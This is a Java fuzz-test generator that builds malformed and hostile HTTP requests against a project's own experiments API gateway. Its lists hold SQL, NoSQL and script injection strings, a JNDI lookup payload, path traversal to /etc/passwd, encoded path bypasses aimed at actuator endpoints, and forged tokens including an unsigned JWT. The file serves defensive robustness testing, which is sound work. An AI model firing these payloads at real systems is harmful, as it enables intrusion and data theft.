package lab.like.stack;

import java.net.URI;
import java.net.http.HttpRequest;
import java.time.Duration;
import java.util.List;
import java.util.Random;

/**
 * A seeded generator of bad requests through the gateway (issue 10): malformed and truncated JSON, wrong types,
 * huge numbers, deep nesting, unicode edge cases, operators and injection strings in every field,
 * non-canonical paths, wrong and missing headers, keys and tokens, every method on every route.
 */
final class BadRequests {

    static final List<String> KINDS = List.of(
            "event-field", "truncated", "nested", "experiment-field", "path", "headers", "credential", "method");
    private static final List<String> FIELDS = List.of(
            "eventId", "experimentId", "subjectId", "variant", "type", "channel", "occurredAt", "durationMs", "score");
    private static final List<String> NASTY = List.of(
            "{\"$gt\":\"\"}",
            "\"{\\\"$where\\\":\\\"sleep(1000)\\\"}\"",
            "\"'; DROP TABLE experiments; --\"",
            "\"<script>alert(1)</script>\"",
            "\"${jndi:ldap://x.invalid/a}\"",
            "\"../../../../etc/passwd\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\u202e\\u0645\\u0631\\u062d\\u0628\\u0627\"",
            "\"\uD83D\uDE00\uD83D\uDE00\uD83D\uDE00\"",
            "\"" + "x".repeat(5000) + "\"",
            "1e999999",
            "123456789012345678901234567890",
            "-1",
            "3.5",
            "true",
            "null",
            "[]",
            "{}",
            "[\"a\",{\"b\":[1,2]}]");
    private static final List<String> ROUTES = List.of(
            "/api/v1/experiments",
            "/api/v1/experiments/{id}",
            "/api/v1/experiments/{id}/start",
            "/api/v1/experiments/{id}/pause",
            "/api/v1/experiments/{id}/complete",
            "/api/v1/experiments/{id}/archive",
            "/api/v1/experiments/{id}/assignments",
            "/api/v1/experiments/{id}/history",
            "/api/v1/experiments/{id}/results",
            "/api/v1/experiments/{id}/results/daily",
            "/api/v1/events",
            "/api/v1/portfolio",
            "/api/v1/services/parking-permit/comparison",
            "/",
            "/actuator/health",
            "/actuator/prometheus",
            "/v3/api-docs");
    private static final List<String> METHODS = List.of("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS");
    private static final List<String> BAD_PATHS = List.of(
            "/%61pi/v1/experiments",
            "/api;x/v1/experiments",
            "/api/v1/experiments;jsessionid=1",
            "//api/v1/experiments",
            "/api//v1/events",
            "/api/v1/./events",
            "/api/v1/experiments/{id}/../../portfolio",
            "/api/v1/experiments/%2e%2e/portfolio",
            "/API/v1/experiments",
            "/api/v1/Experiments/{id}",
            "/api/v1/experiments/{id}/RESULTS",
            "/api/v2/experiments",
            "/api/v1/experiments/{id}/results/%2fetc",
            "/actuator/%70rometheus",
            "/actuator/env",
            "/actuator/heapdump");

    private final Random random;
    private final URI base;
    private final String target;

    /** @param target the experiment the generated requests aim at (never the one whose counts are checked) */
    BadRequests(long seed, URI base, String target) {
        this.random = new Random(seed);
        this.base = base;
        this.target = target;
    }

    HttpRequest next(int index) {
        String kind = KINDS.get(index % KINDS.size());
        return switch (kind) {
            case "event-field" ->
                post("/api/v1/events", "dev-emitter-key", "[" + eventWith(pick(FIELDS), pick(NASTY)) + "]");
            case "truncated" -> {
                String valid = "[" + validEvent() + "]";
                yield post("/api/v1/events", "dev-team-key", valid.substring(0, random.nextInt(valid.length())));
            }
            case "nested" -> {
                int depth = 100 + random.nextInt(20_000);
                yield post("/api/v1/events", "dev-team-key", "[".repeat(depth) + "]".repeat(random.nextInt(depth)));
            }
            case "experiment-field" -> post("/api/v1/experiments", "dev-team-key", experimentWith(pick(NASTY)));
            case "path" -> request("GET", pick(BAD_PATHS).replace("{id}", target), "dev-admin-key", null, null);
            case "headers" ->
                request(
                        "POST",
                        "/api/v1/events",
                        "dev-team-key",
                        pick(List.of(
                                "text/plain", "application/xml", "a/b", "application/json; charset=ebcdic", "*/*")),
                        "[" + validEvent() + "]");
            case "credential" -> build("GET", "/api/v1/experiments", null, null, credential());
            default ->
                request(
                        pick(METHODS),
                        pick(ROUTES).replace("{id}", target),
                        pick(List.of("dev-admin-key", "dev-analyst-key", "dev-emitter-key", "dev-other-team-key")),
                        "application/json",
                        random.nextBoolean() ? "{\"outcome\":\"SCALE\",\"rationale\":" + pick(NASTY) + "}" : null);
        };
    }

    private String credential() {
        return pick(List.of(
                "",
                "Bearer",
                "Bearer ",
                "Basic ZGV2LWFkbWluLWtleTo=",
                "Bearer dev-admin-key-",
                "Bearer DEV-ADMIN-KEY",
                "bearer\tdev-team-key",
                "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4Iiwib3JnIjoiKiJ9.",
                "Bearer " + Long.toHexString(random.nextLong()) + "." + Long.toHexString(random.nextLong()) + ".x",
                "Bearer " + "k".repeat(4000)));
    }

    private String eventWith(String field, String value) {
        StringBuilder json = new StringBuilder("{");
        for (String f : FIELDS) {
            String v = f.equals(field) ? value : validValue(f);
            if (v != null) {
                json.append('"').append(f).append("\":").append(v).append(',');
            }
        }
        if (random.nextInt(4) == 0) {
            json.append("\"unexpected\":").append(pick(NASTY)).append(',');
        }
        json.setLength(json.length() - 1);
        return json.append('}').toString();
    }

    private String validEvent() {
        return eventWith("", "");
    }

    private String validValue(String field) {
        return switch (field) {
            case "eventId" -> "\"fuzz-" + random.nextInt(1_000_000) + "\"";
            case "experimentId" -> "\"" + target + "\"";
            case "subjectId" -> "\"citizen-" + random.nextInt(1000) + "\"";
            case "type" -> "\"start\"";
            case "occurredAt" -> "\"" + java.time.Instant.now().minus(Duration.ofMinutes(1)) + "\"";
            default -> null;
        };
    }

    private String experimentWith(String value) {
        String field = pick(List.of(
                "name",
                "service",
                "variants",
                "controlVariant",
                "primaryKpi",
                "guardrailKpis",
                "eligiblePopulation",
                "minimumStarters",
                "sharedWithNetwork",
                "iterationOf",
                "organisation"));
        return "{\"name\":\"Fuzz\",\"service\":\"parking-permit\",\"variants\":[{\"key\":\"a\",\"weight\":50},"
                + "{\"key\":\"b\",\"weight\":50}],\"" + field + "\":" + value + "}";
    }

    private HttpRequest post(String path, String key, String body) {
        return request("POST", path, key, "application/json", body);
    }

    private HttpRequest request(String method, String path, String key, String contentType, String body) {
        return build(method, path, contentType, body, key == null ? null : "Bearer " + key);
    }

    private HttpRequest build(String method, String path, String contentType, String body, String authorization) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(base + path))
                .timeout(Duration.ofSeconds(30))
                .method(
                        method,
                        body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (authorization != null && !authorization.isEmpty()) {
            builder.header("Authorization", authorization);
        }
        if (contentType != null) {
            builder.header("Content-Type", contentType);
        }
        return builder.build();
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }
}
